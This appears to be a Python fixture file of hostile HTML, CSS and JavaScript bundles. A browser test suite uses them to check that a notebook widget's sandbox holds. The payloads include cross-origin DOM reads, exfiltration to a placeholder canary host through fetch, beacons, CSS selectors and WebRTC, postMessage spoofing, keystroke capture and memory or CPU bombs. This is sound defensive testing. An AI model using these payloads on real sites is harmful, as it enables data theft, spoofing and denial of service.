"""Surface bundles written for this project, each trying one way out of the sandbox.

Each bundle is ``{"id", "title", "technique", "html", "css", "js"}``, opened with ``ui.open``
by tests/browser/test_hostile.py next to a benign victim surface. The ``id`` names the class of
attack; tests/browser/test_hostile.py's ``SPECS`` says, per class, what a bundle may achieve
(the events the host may accept, the refusals it must file), so a bundle of the same class from
the optional extra corpus is held to the same contract. The classes are listed in
docs/testing.md ("Attack vectors").

Placeholders filled by the harness (tests/browser/hostile.py): ``{{CANARY}}`` the base URL of a
loopback HTTP server that records every request and connection, ``{{CANARY_PORT}}`` its port,
``{{STUN_PORT}}`` a loopback UDP port that counts datagrams, ``{{INSTANCE}}`` the bundle's own
instance id, ``{{VICTIM_INSTANCE}}`` the victim's. Bundles report what each attempt did with
``probe(key, value)``, which the harness defines before their script.
"""

from __future__ import annotations

from typing import Any

# A link that covers the whole surface, so a click anywhere in it is a click on the link (the
# user's click is what gives the frame user activation).
FULL_CSS = "a.full{position:fixed;inset:0;display:block;background:#efe;font:18px sans-serif}"
# Calls each attempt in its own try and reports its outcome or the error's name.
TRY_ALL = """const attempt = (label, table) => {
  const out = {};
  for (const [k, f] of Object.entries(table)) {
    try { const v = f(); out[k] = v === undefined ? 'NO ERROR' : String(v).slice(0, 160); }
    catch (e) { out[k] = e.name; }
  }
  probe(label, out);
  return out;
};
"""
RAW = "const raw = (m, transfer) => parent.postMessage(m, '*', transfer || []);\n"
NS = "const NS = 'lineup.surface.v1';\n"


def _bundle(
    id_: str, title: str, technique: str, *, html: str = "", css: str = "", js: str = ""
) -> dict[str, Any]:
    return {"id": id_, "title": title, "technique": technique, "html": html, "css": css, "js": js}


_DOM_AND_NAVIGATION = [
    _bundle(
        "control-benign",
        "A well-behaved surface (the positive control)",
        "valid protocol use",
        html="<p>all good</p>",
        js="LineUpSurface.event('hello', {x: 1, s: 'ok'});\n",
    ),
    _bundle(
        "read-parent-dom",
        "Read the notebook page's DOM, globals and URL",
        "cross-origin DOM read",
        js=TRY_ALL
        + """const got = attempt('read', {
  parentBody: () => parent.document.body.textContent,
  topBody: () => top.document.body.innerHTML,
  parentSecretGlobal: () => parent.hostSecret,
  parentLocationHref: () => parent.location.href,
  frameElement: () => window.frameElement,
  topMarker: () => top.document.getElementById('host-secret').textContent,
});
LineUpSurface.event('exfil', got);
""",
    ),
    _bundle(
        "write-parent-dom",
        "Change the notebook page or remove the surface's own sandbox",
        "cross-origin DOM write",
        js=TRY_ALL
        + """attempt('write', {
  body: () => { top.document.body.prepend('OWNED'); },
  title: () => { parent.document.title = 'OWNED'; },
  sandbox: () => { window.frameElement.removeAttribute('sandbox'); },
  shellSandbox: () => { parent.frameElement.setAttribute('sandbox', 'allow-same-origin'); },
  evalTop: () => { top.eval('window.pwned = 1'); },
  global: () => { parent.pwned = 1; },
  hash: () => { top.location.hash = '#owned'; },
});
""",
    ),
    _bundle(
        "host-origin-relative-nav",
        "A relative link, which a srcdoc frame resolves against the notebook page's URL",
        "navigation to the host origin",
        html='<a class=full href="/api/contents?leak=relative">open</a>',
        css=FULL_CSS,
    ),
    _bundle(
        "frames-walk-sibling-nav",
        "Navigate or read every other frame reachable from the surface",
        "cross-frame navigation",
        js=TRY_ALL
        + """const table = {count: () => parent.frames.length + '/' + top.frames.length};
for (let i = 0; i < top.frames.length; i++) {
  table['nav' + i] = () => { top.frames[i].location = '{{CANARY}}/sibling-' + i; };
  table['read' + i] = () => top.frames[i].document.title;
}
for (let i = 0; i < parent.frames.length; i++) {
  if (parent.frames[i] !== window) table['pnav' + i] = () => { parent.frames[i].location = '{{CANARY}}/p' + i; };
}
attempt('frames', table);
""",
    ),
    _bundle(
        "top-location",
        "Navigate the notebook page from script",
        "top navigation",
        js=TRY_ALL
        + """attempt('top', {
  set: () => { top.location.href = '{{CANARY}}/top-set'; },
  assign: () => { top.location.assign('{{CANARY}}/top-assign'); },
  replace: () => { parent.location.replace('{{CANARY}}/parent-replace'); },
  named: () => { window.open('{{CANARY}}/named-top', '_top'); },
  parentNamed: () => { window.open('{{CANARY}}/named-parent', '_parent'); },
});
""",
    ),
    _bundle(
        "a-target-top-click",
        "A link to the notebook page's window, clicked by the user and by script",
        "top navigation with user activation",
        html='<a class=full target="_top" href="{{CANARY}}/top-click">continue</a>',
        css=FULL_CSS,
        js="setTimeout(() => document.querySelector('a.full').click(), 40);\n",
    ),
    _bundle(
        "meta-refresh-self",
        "A meta refresh that sends the surface's own frame to the canary",
        "self-navigation exfiltration",
        html='<meta http-equiv="refresh" content="0; url={{CANARY}}/refresh?who={{INSTANCE}}">',
    ),
    _bundle(
        "location-self-exfil",
        "The surface navigates itself with data in the query string",
        "self-navigation exfiltration",
        js="setTimeout(() => { location.assign('{{CANARY}}/self?d=' + "
        "encodeURIComponent(document.documentElement.outerHTML.slice(0, 100))); }, 80);\n",
    ),
    _bundle(
        "base-href-link",
        "A <base> pointing at the canary, then a relative image and a clicked relative link",
        "base-uri",
        html='<base href="{{CANARY}}/b/"><img src="dot.gif">'
        '<a class=full href="followed">relative</a>',
        css=FULL_CSS,
    ),
    _bundle(
        "form-submit",
        "Forms posted to the canary, into the frame and into the notebook's window",
        "form submission",
        html='<form id=one method=post action="{{CANARY}}/post"><input name=d value=data>'
        "<button id=b1>send</button></form>"
        '<form id=two action="{{CANARY}}/get-top" target=_top><input name=d value=data></form>',
        js=TRY_ALL
        + """attempt('forms', {
  submit: () => { document.getElementById('one').submit(); },
  requestSubmit: () => { document.getElementById('two').requestSubmit(); },
});
""",
    ),
    _bundle(
        "history-traversal",
        "Fill the joint session history, then go back through it",
        "history",
        js="""const r = {before: history.length};
try { for (let i = 0; i < 120; i++) history.pushState(null, '', '#s' + i); r.pushed = history.length; }
catch (e) { r.pushed = e.name; }
setTimeout(() => { try { history.go(-(history.length + 5)); r.go = 'called'; } catch (e) { r.go = e.name; } }, 150);
setTimeout(() => { try { history.back(); history.back(); } catch (e) { r.back = e.name; } probe('history', r); }, 350);
""",
    ),
    _bundle(
        "popups",
        "window.open and target=_blank, before and after the user's click",
        "popups",
        html='<a class=full target="_blank" href="{{CANARY}}/blank">new tab</a>',
        css=FULL_CSS,
        js=TRY_ALL
        + """attempt('popups-initial', {
  open: () => window.open('{{CANARY}}/popup'),
  noopener: () => window.open('{{CANARY}}/popup-noopener', 'x', 'noopener'),
});
document.addEventListener('click', () => attempt('popups-click', {
  open: () => window.open('{{CANARY}}/popup-after-click'),
}));
""",
    ),
]

_NESTED = [
    _bundle(
        "nested-iframe-remote",
        "Nested remote frames, objects and embeds, in markup and from script",
        "frame-src",
        html='<iframe src="{{CANARY}}/frame"></iframe><object data="{{CANARY}}/obj"></object>'
        '<embed src="{{CANARY}}/emb">',
        js="const inner = document.createElement('iframe');\n"
        "inner.src = '{{CANARY}}/frame-from-script';\ndocument.body.appendChild(inner);\n",
    ),
    _bundle(
        "nested-srcdoc-forge",
        "A nested frame posts events upward as if it were the surface",
        "postMessage source spoofing",
        js=NS
        + """const inner = document.createElement('iframe');
const forged = JSON.stringify({namespace: NS, type: 'event', event: 'nested.forged', data: {}});
inner.srcdoc = '<script>const m = ' + forged + ';' +
  'parent.postMessage(m, "*"); parent.parent.postMessage(m, "*"); top.postMessage(m, "*");<\\/script>';
document.body.appendChild(inner);
""",
    ),
    _bundle(
        "nested-about-blank",
        "Script an about:blank child (which inherits the CSP) and load from it",
        "CSP inheritance by local-scheme frames",
        js=TRY_ALL
        + """const blank = document.createElement('iframe');
document.body.appendChild(blank);
attempt('blank', {
  fetch: () => { blank.contentWindow.fetch('{{CANARY}}/blank-fetch').then(() => probe('bf', 'ok'), (e) => probe('bf', e.name)); },
  img: () => { const d = blank.contentDocument; d.body.innerHTML = '<img src="{{CANARY}}/blank-img">'; },
  beacon: () => blank.contentWindow.navigator.sendBeacon('{{CANARY}}/blank-beacon', 'x'),
});
""",
    ),
    _bundle(
        "nested-srcdoc-relaxed-csp",
        "A meta CSP that tries to allow everything, in the surface and in a nested srcdoc",
        "CSP relaxation attempt",
        html='<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">'
        '<img src="{{CANARY}}/after-meta">'
        '<iframe srcdoc="&lt;meta http-equiv=Content-Security-Policy content=&quot;img-src *&quot;&gt;'
        '&lt;img src={{CANARY}}/nested-meta&gt;"></iframe>',
    ),
    _bundle(
        "self-nav-data-url",
        "Navigate the surface to a data: document that loads from the canary",
        "CSP loss via navigation to a local scheme",
        js='setTimeout(() => { location.href = \'data:text/html,<img src="{{CANARY}}/data-doc">'
        '<script>fetch("{{CANARY}}/data-doc-fetch")<\\/script>\'; }, 60);\n',
    ),
    _bundle(
        "self-nav-blob-url",
        "Navigate the surface to a blob: document that loads from the canary",
        "CSP loss via navigation to a local scheme",
        js="setTimeout(() => {\n  try {\n"
        '    const doc = new Blob([\'<img src="{{CANARY}}/blob-doc"><script>'
        "navigator.sendBeacon(\"{{CANARY}}/blob-beacon\")<\\/script>'], {type: 'text/html'});\n"
        "    location.href = URL.createObjectURL(doc);\n"
        "  } catch (e) { probe('blob-nav', e.name); }\n}, 60);\n",
    ),
    _bundle(
        "document-open-rewrite",
        "document.open() and a new document with a permissive meta CSP",
        "CSP persistence across document.open",
        js="setTimeout(() => {\n  document.open();\n"
        '  document.write(\'<meta http-equiv="Content-Security-Policy" content="img-src *">'
        '<img src="{{CANARY}}/rewritten">\');\n  document.close();\n}, 60);\n',
    ),
    _bundle(
        "javascript-url-self",
        "A javascript: URL navigation of the surface itself",
        "javascript: URL",
        js="setTimeout(() => { location.href = \"javascript:void fetch('{{CANARY}}/js-url')"
        ".catch((e) => console.log('js-url ' + e.name))\"; }, 60);\n",
    ),
]

_NETWORK = [
    _bundle(
        "fetch-xhr",
        "fetch and XMLHttpRequest, absolute and relative to the page",
        "connect-src",
        js="""fetch('{{CANARY}}/fetch', {method: 'POST', body: 'data', mode: 'no-cors'})
  .then(() => probe('fetch', 'ok'), (e) => probe('fetch', e.name));
fetch('./api/kernels').then(() => probe('fetch-relative', 'ok'), (e) => probe('fetch-relative', e.name));
try {
  const x = new XMLHttpRequest();
  x.open('POST', '{{CANARY}}/xhr');
  x.onloadend = () => probe('xhr', x.status);
  x.send('data');
} catch (e) { probe('xhr', e.name); }
""",
    ),
    _bundle(
        "ws-sse-beacon-ping",
        "WebSocket, EventSource, sendBeacon and a link with ping, clicked",
        "connect-src",
        html='<a id=p class=full href="#here" ping="{{CANARY}}/ping">ping</a>',
        css=FULL_CSS,
        js=TRY_ALL
        + """attempt('channels', {
  ws: () => { new WebSocket('ws://127.0.0.1:{{CANARY_PORT}}/socket').onerror = () => probe('ws', 'error'); },
  sse: () => { new EventSource('{{CANARY}}/events').onerror = () => probe('sse', 'error'); },
  beacon: () => navigator.sendBeacon('{{CANARY}}/beacon', new Blob(['data'])),
});
""",
    ),
    _bundle(
        "remote-subresources",
        "Every kind of remote subresource: image, script, style, font, media, SVG, module",
        "fetch directives",
        html='<img src="{{CANARY}}/i.png"><img srcset="{{CANARY}}/s.png 2x">'
        '<picture><source srcset="{{CANARY}}/pic.webp"><img alt=p></picture>'
        '<script src="{{CANARY}}/s.js"></script><link rel=stylesheet href="{{CANARY}}/c.css">'
        '<video poster="{{CANARY}}/poster.png" src="{{CANARY}}/v.webm"></video>'
        '<audio src="{{CANARY}}/a.ogg"></audio><input type=image src="{{CANARY}}/in.png">'
        '<svg><image href="{{CANARY}}/svg.png"/><use href="{{CANARY}}/u.svg#a"/></svg>'
        "<span class=remote>font</span>",
        css="@import '{{CANARY}}/imported.css';\n"
        "@font-face{font-family:remote;src:url('{{CANARY}}/f.woff2')}\n.remote{font-family:remote}\n",
        js="""const s = document.createElement('script'); s.src = '{{CANARY}}/late.js'; document.head.appendChild(s);
import('{{CANARY}}/mod.mjs').catch((e) => probe('import', e.name));
const img = new Image(); img.src = '{{CANARY}}/new-image.png';
""",
    ),
    _bundle(
        "css-exfil",
        "CSS that loads URLs: attribute selectors, cursor, image-set, masks, filters, lists",
        "CSS exfiltration",
        html='<input id=secret value="s3cr3t"><p class=p>text</p><ol><li>one</li></ol>',
        css="input[value^='s']{background-image:url('{{CANARY}}/prefix-s')}\n"
        ".p{cursor:url('{{CANARY}}/c.cur'),pointer;"
        "background:image-set('{{CANARY}}/set.png' 1x);"
        "mask:url('{{CANARY}}/m.svg');-webkit-mask-image:url('{{CANARY}}/wm.svg');"
        "border-image:url('{{CANARY}}/bi.png') 10;filter:url('{{CANARY}}/f.svg#x')}\n"
        "li{list-style:url('{{CANARY}}/bullet.png')}\n"
        "p::after{content:url('{{CANARY}}/after.png')}\n",
    ),
    _bundle(
        "resource-hints",
        "prefetch, preload, preconnect, dns-prefetch, modulepreload and speculation rules",
        "resource hints",
        html='<link rel=prefetch href="{{CANARY}}/hint-prefetch">'
        '<link rel=preload as=fetch href="{{CANARY}}/hint-preload">'
        '<link rel=preconnect href="{{CANARY}}">'
        '<link rel=dns-prefetch href="//leak.lineup.invalid">'
        '<link rel=modulepreload href="{{CANARY}}/hint-mod.js">'
        '<link rel=icon href="{{CANARY}}/hint-icon.png">'
        '<script type=speculationrules>{"prerender":[{"source":"list",'
        '"urls":["{{CANARY}}/hint-prerender"]}]}</script>',
        js="const hint = document.createElement('link'); hint.rel = 'preconnect';\n"
        "hint.href = 'http://127.0.0.1:{{CANARY_PORT}}'; document.head.appendChild(hint);\n",
    ),
    _bundle(
        "webrtc-stun-turn",
        "A peer connection to a loopback STUN and TURN server, with data in the username",
        "WebRTC bypasses CSP",
        js="""try {
  const pc = new RTCPeerConnection({iceServers: [
    {urls: ['stun:127.0.0.1:{{STUN_PORT}}']},
    {urls: ['turn:127.0.0.1:{{CANARY_PORT}}?transport=tcp'], username: 'leak-{{INSTANCE}}', credential: 'c'},
  ]});
  pc.onicecandidate = (e) => probe('ice', e.candidate ? e.candidate.candidate.slice(0, 60) : 'end');
  pc.createDataChannel('d');
  pc.createOffer().then((o) => pc.setLocalDescription(o))
    .then(() => probe('webrtc', 'local description set'), (e) => probe('webrtc', e.name));
} catch (e) { probe('webrtc', e.name + ': ' + e.message); }
""",
    ),
    _bundle(
        "workers",
        "Workers from blob:, data: and remote URLs, a shared worker, a service worker",
        "worker-src / service workers",
        js=TRY_ALL
        + """const code = (path) => URL.createObjectURL(new Blob([`fetch('{{CANARY}}/${path}')`], {type: 'text/javascript'}));
attempt('workers', {
  blob: () => { new Worker(code('w-blob')).onerror = () => probe('w-blob', 'error'); },
  data: () => { new Worker("data:text/javascript,fetch('{{CANARY}}/w-data')").onerror = () => probe('w-data', 'error'); },
  remote: () => { new Worker('{{CANARY}}/w.js').onerror = () => probe('w-remote', 'error'); },
  shared: () => { new SharedWorker(code('w-shared')).onerror = () => probe('w-shared', 'error'); },
  module: () => { new Worker(code('w-module'), {type: 'module'}).onerror = () => probe('w-module', 'error'); },
});
try {
  navigator.serviceWorker.register('{{CANARY}}/sw.js')
    .then(() => probe('sw', 'REGISTERED'), (e) => probe('sw', e.name));
} catch (e) { probe('sw', e.name); }
""",
    ),
    _bundle(
        "storage-cookies",
        "Every kind of storage, cookies, storage access and document.domain",
        "opaque-origin storage and origin relaxation",
        js=TRY_ALL
        + """attempt('storage', {
  local: () => { localStorage.setItem('k', 'v'); return 'stored ' + localStorage.length; },
  session: () => { sessionStorage.setItem('k', 'v'); return 'stored'; },
  cookie: () => { document.cookie = 'k=v; SameSite=None; Secure'; return 'cookie=' + document.cookie; },
  idb: () => { const r = indexedDB.open('db'); r.onsuccess = () => probe('idb', 'OPENED'); r.onerror = () => probe('idb', 'error'); return 'requested'; },
  cache: () => { caches.open('c').then(() => probe('cache', 'OPENED'), (e) => probe('cache', e.name)); return 'requested'; },
  access: () => { document.requestStorageAccess().then(() => probe('access', 'GRANTED'), (e) => probe('access', e.name)); return 'requested'; },
  domain: () => { document.domain = 'localhost'; return 'NO ERROR domain=' + document.domain; },
  opfs: () => { navigator.storage.getDirectory().then(() => probe('opfs', 'OPENED'), (e) => probe('opfs', e.name)); return 'requested'; },
});
""",
    ),
]

_MESSAGES = [
    _bundle(
        "pm-wrong-namespace",
        "Messages with a wrong, missing or mistyped namespace or type",
        "protocol validation",
        js=RAW
        + NS
        + """for (const m of [
  {namespace: 'lineup.surface.v2', type: 'event', event: 'x', data: {}},
  {namespace: 'LINEUP.SURFACE.V1', type: 'event', event: 'x', data: {}},
  {type: 'event', event: 'x', data: {}},
  {namespace: NS, type: 'state', event: 'x', data: {}},
  {namespace: NS, event: 'x', data: {}},
  {namespace: NS, type: 'event', event: 'x', data: {}, note: 'extra key'},
]) raw(m);
""",
    ),
    _bundle(
        "pm-forged-instance",
        "Messages naming another instance (the victim's, made up, empty, not a string)",
        "instance spoofing",
        js=RAW
        + NS
        + """for (const instance of ['{{VICTIM_INSTANCE}}', 'made.up.' + Date.now(), '', null, 7, ['{{INSTANCE}}']])
  raw({namespace: NS, type: 'event', instance, event: 'forged', data: {}});
""",
    ),
    _bundle(
        "pm-oversized",
        "Event data just under, at and over 16 KiB, in ASCII and multi-byte, and nested deep",
        "size limit",
        js="""const room = 16384 - JSON.stringify({p: ''}).length;  // U9: data under 16 KiB
LineUpSurface.event('size.under', {p: 'x'.repeat(room - 1)});
LineUpSurface.event('size.at', {p: 'x'.repeat(room)});
LineUpSurface.event('size.over', {p: 'x'.repeat(room + 1)});
LineUpSurface.event('size.emoji', {p: '\\u{1F600}'.repeat(5000)});
LineUpSurface.event('size.megabytes', {p: 'x'.repeat(4 * 1024 * 1024)});
let deep = 0; for (let i = 0; i < 3000; i++) deep = [deep];
LineUpSurface.event('size.deep', {d: deep});
""",
    ),
    _bundle(
        "pm-non-object",
        "Event data and whole messages that are not JSON objects",
        "type validation",
        js=RAW
        + """for (const data of ['text', 0, false, null, ['a'], new Date(0), undefined]) LineUpSurface.event('nonobj', data);
for (const m of ['{"namespace":"lineup.surface.v1"}', 3.5, null, ['event'], false]) raw(m);
""",
    ),
    _bundle(
        "pm-non-json",
        "Values a structured clone carries but JSON does not",
        "JSON-ness validation",
        js="""const shared = {s: 1};
const loop = {}; loop.loop = loop;
const cases = {
  node: {n: document.body},  // the script runs in <head>: body is null, which is JSON
  fn: {f() {}}, symbol: {s: Symbol('s')},
  date: {d: new Date(0)}, regexp: {r: /r/g}, map: {m: new Map()}, set: {s: new Set([1])},
  buffer: {b: new ArrayBuffer(2)}, typed: {t: new Float32Array(2)}, bigint: {b: 1n},
  nan: {n: NaN}, infinity: {n: -Infinity}, undef: {u: undefined}, blob: {b: new Blob([])},
  error: {e: new TypeError('t')}, holes: {a: [1, , 2]}, surrogate: {s: '\\ud800'},
  shared: {a: shared, b: shared}, loop,
  negzero: {z: -0},  // -0 is the number 0 in JSON
};
const sent = {};
for (const [name, data] of Object.entries(cases)) {
  try { LineUpSurface.event('nonjson.' + name, data); sent[name] = 'posted'; } catch (e) { sent[name] = e.name; }
}
probe('nonjson', sent);
""",
    ),
    _bundle(
        "pm-proto-keys",
        "__proto__ keys in data and event names that are Object.prototype's members",
        "prototype pollution through the protocol",
        js="""LineUpSurface.event('proto.data', JSON.parse('{"__proto__": {"polluted": 1}}'));
LineUpSurface.event('proto.nested', JSON.parse('{"a": [{"__proto__": {"polluted2": 1}}]}'));
for (const name of ['constructor', 'toString', 'hasOwnProperty', 'valueOf']) LineUpSurface.event(name, {});
try { LineUpSurface.event('__proto__', {}); } catch (e) { probe('proto-name', e.name); }
""",
    ),
    _bundle(
        "pm-bad-event-names",
        "An event name outside the protocol's form, through the bridge",
        "event-name validation",
        js="LineUpSurface.event('9-starts-with-a-digit', {});\n",
    ),
    _bundle(
        "pm-ports-transfer",
        "Messages that transfer a MessagePort or an ArrayBuffer to the host",
        "transfer smuggling",
        js=RAW
        + NS
        + """const channel = new MessageChannel();
channel.port1.onmessage = (e) => probe('port', JSON.stringify(e.data).slice(0, 100));
raw({namespace: NS, type: 'event', event: 'ported', data: {}}, [channel.port2]);
const bytes = new Uint8Array(8).buffer;
raw({namespace: NS, type: 'event', event: 'buffered', data: {bytes}}, [bytes]);
""",
    ),
    _bundle(
        "pm-flood",
        "Thousands of events a second for two seconds",
        "DoS through the channel",
        js="""let n = 0;
const start = performance.now();
const timer = setInterval(() => {
  for (let i = 0; i < 60; i++) LineUpSurface.event('flood', {n: n++});
  if (performance.now() - start > 2000) { clearInterval(timer); probe('flood-sent', n); }
}, 5);
""",
    ),
    _bundle(
        "pm-to-sibling",
        "Host-like and surface-like messages posted to every frame the surface can reach",
        "surface-to-surface spoofing",
        js=NS
        + """const forged = [
  {namespace: NS, type: 'state', revision: 1e9, state: {owned: true}},
  {namespace: NS, type: 'event', instance: '{{VICTIM_INSTANCE}}', event: 'spoofed', data: {}},
];
for (let i = 0; i < parent.frames.length; i++) {
  if (parent.frames[i] !== window) for (const m of forged) parent.frames[i].postMessage(m, '*');
}
""",
    ),
    # The bridge's LineUpSurface.event throws on a bad name before anything is posted, so these
    # post the same kinds of names raw, around it, to reach the host's own validator.
    _bundle(
        "extra-raw-bad-event-names",
        "Bad event names posted raw (around LineUpSurface.event)",
        "event-name validation",
        js=RAW
        + NS
        + """for (const event of ['', '1abc', '_x', '-x', 'a b', 'a/b', 'a\\nb', '\\u00e9vent', 'a'.repeat(65),
  'ok\\u0000', '<img>', 'x'.repeat(10000), 42, null, {}, '__proto__', '_prototype'])
  raw({namespace: NS, type: 'event', event, data: {}});
raw({namespace: NS, type: 'event', event: 'a'.repeat(64), data: {}});
raw({namespace: NS, type: 'event', event: 'proto.raw', data: JSON.parse('{"__proto__": {"polluted": 1}}')});
""",
    ),
    # pm-to-sibling walks parent.frames, which holds only the surface itself; this walks
    # window.top.frames and each shell's frames, and does reach the victim's frame.
    _bundle(
        "extra-sibling-via-top-frames",
        "Spoof host-to-surface and surface messages into every other surface",
        "surface-to-surface spoofing",
        js=NS
        + """const forged = [{namespace: NS, type: 'state', revision: 1e9, state: {x: 1}},
  {namespace: NS, type: 'event', instance: '{{VICTIM_INSTANCE}}', event: 'spoof', data: {}},
  {namespace: 'lineup.host.v1', type: 'command', command: 'render'}];
let reached = 0;
for (let i = 0; i < top.frames.length; i++) {
  const shell = top.frames[i];
  for (const m of forged) shell.postMessage(m, '*');
  for (let j = 0; j < shell.frames.length; j++) {
    if (shell.frames[j] === window) continue;
    for (const m of forged) shell.frames[j].postMessage(m, '*');
    reached++;
  }
}
probe('reached', reached);
""",
    ),
]

_DEVICE_AND_UI = [
    _bundle(
        "window-name-clobber",
        "The surface's window.name set to the notebook page's global names",
        "DOM clobbering of the parent via a frame's name",
        js="const names = ['lineupConfig', 'hostConfig', 'jupyterapp'];\n"
        "names.forEach((n, i) => setTimeout(() => { window.name = n; }, i * 250));\n",
    ),
    _bundle(
        "window-name-carrier",
        "window.name as a carrier across a self-navigation to the canary",
        "window.name exfiltration",
        js="window.name = 'carried-' + '{{INSTANCE}}';\n"
        "setTimeout(() => { location.replace('{{CANARY}}/carrier'); }, 80);\n",
    ),
    _bundle(
        "dialog-spam",
        "alert, confirm, prompt and print, over and over",
        "modal dialogs",
        js="""for (let i = 0; i < 30; i++) {
  try { alert('a' + i); confirm('c' + i); prompt('p' + i, 'x'); print(); }
  catch (e) { probe('dlg-error', e.name); break; }
}
probe('dlg', 'done');
""",
    ),
    _bundle(
        "fullscreen-pointerlock",
        "Fullscreen, pointer lock, keyboard lock and orientation lock on the user's click",
        "UI takeover",
        html='<a class=full href="#">take over</a>',
        css=FULL_CSS,
        js="""const report = (k, p) => { try { Promise.resolve(p()).then(() => probe(k, k === 'fs' ? 'FULLSCREEN' : 'LOCKED'), (e) => probe(k, e.name)); } catch (e) { probe(k, e.name); } };
document.addEventListener('click', (e) => {
  e.preventDefault();
  report('fs', () => document.body.requestFullscreen());
  report('pl', () => document.body.requestPointerLock());
  report('kl', () => navigator.keyboard.lock());
  report('or', () => screen.orientation.lock('portrait'));
});
""",
    ),
    _bundle(
        "clipboard",
        "Clipboard writes and reads on the user's click, async API and execCommand",
        "clipboard",
        html='<a class=full href="#">copy</a><input id=payload value="OWNED-BY-EXECCOMMAND">',
        css=FULL_CSS,
        js="""document.addEventListener('click', (e) => {
  e.preventDefault();
  navigator.clipboard.writeText('OWNED-BY-ASYNC').then(() => probe('cw', 'WRITTEN'), (err) => probe('cw', err.name));
  navigator.clipboard.readText().then((t) => probe('cr', 'READ ' + t), (err) => probe('cr', err.name));
  document.getElementById('payload').select();
  try { probe('exec', document.execCommand('copy')); } catch (err) { probe('exec', err.name); }
});
""",
    ),
    _bundle(
        "permissions",
        "Camera, microphone, location, notifications, MIDI, wake lock, credentials, pickers",
        "powerful features",
        html='<a class=full href="#">allow?</a>',
        css=FULL_CSS,
        js="""const ask = (k, p) => {
  try { Promise.resolve(p()).then((v) => probe(k, 'OK ' + String(v).slice(0, 30)), (e) => probe(k, e.name || String(e.code))); }
  catch (e) { probe(k, e.name); }
};
ask('camera', () => navigator.mediaDevices.getUserMedia({video: true}));
ask('location', () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)));
ask('notif', () => Notification.requestPermission());
try { new Notification('from a surface').onshow = () => probe('notif-show', 'SHOWN'); } catch (e) { probe('notif-show', e.name); }
ask('midi', () => navigator.requestMIDIAccess({sysex: true}));
ask('wakelock', () => navigator.wakeLock.request('screen'));
ask('password', () => navigator.credentials.get({password: true}));
document.addEventListener('click', (e) => {
  e.preventDefault();
  ask('mic', () => navigator.mediaDevices.getUserMedia({audio: true}));
  ask('screen', () => navigator.mediaDevices.getDisplayMedia({video: true}));
  ask('picker', () => window.showSaveFilePicker());
  ask('share', () => navigator.share({url: '{{CANARY}}/shared'}));
  ask('usb', () => navigator.usb.requestDevice({filters: []}));
});
""",
    ),
    _bundle(
        "download",
        "A download link clicked by the user and a download started from script",
        "downloads",
        html='<a class=full download="report.txt" href="data:text/plain,owned">save</a>',
        css=FULL_CSS,
        js="setTimeout(() => {\n  const a = document.createElement('a');\n"
        "  a.href = URL.createObjectURL(new Blob(['owned'], {type: 'application/octet-stream'}));\n"
        "  a.download = 'script.bin';\n  document.body.appendChild(a);\n  a.click();\n}, 40);\n",
    ),
    _bundle(
        "focus-steal",
        "Take keyboard focus from the notebook, over and over, with no click",
        "keystroke capture",
        html="<textarea id=trap autofocus></textarea>",
        js="""let keys = '';
addEventListener('keydown', (e) => { keys += e.key; probe('keys', keys); });
const grab = setInterval(() => { try { window.focus(); document.getElementById('trap').focus(); } catch (e) {} }, 40);
setTimeout(() => clearInterval(grab), 3000);
""",
    ),
    _bundle(
        "infinite-loop",
        "An endless loop once started",
        "CPU DoS",
        js="LineUpSurface.event('about-to-hang', {});\nsetTimeout(() => { while (true) {} }, 250);\n",
    ),
    _bundle(
        "memory-bomb",
        "Memory eaten until the renderer dies",
        "memory DoS",
        js="LineUpSurface.event('about-to-eat', {});\n"
        "setTimeout(() => { const keep = []; while (true) keep.push(new Float64Array(1 << 20)); }, 250);\n",
    ),
    _bundle(
        "template-breakout",
        "Text that closes the host's style or script element or an attribute quote",
        "template injection",
        html="'\"><img src=nope id=broke onerror=\"LineUpSurface.event('tpl.html-quote', {})\">"
        "<script>LineUpSurface.event('tpl.html', {})</script>",
        css="p{color:red}</style><script>LineUpSurface.event('tpl.css-breakout', {})</script><style>",
        js="// </script><script>LineUpSurface.event('tpl.js-breakout', {})</script>\n"
        "const closer = '</script><script>LineUpSurface.event(\"tpl.js-breakout\", {})</script>';\n"
        "LineUpSurface.event('tpl.js-normal', {});\n",
    ),
]

BUNDLES: list[dict[str, Any]] = [
    *_DOM_AND_NAVIGATION,
    *_NESTED,
    *_NETWORK,
    *_MESSAGES,
    *_DEVICE_AND_UI,
]
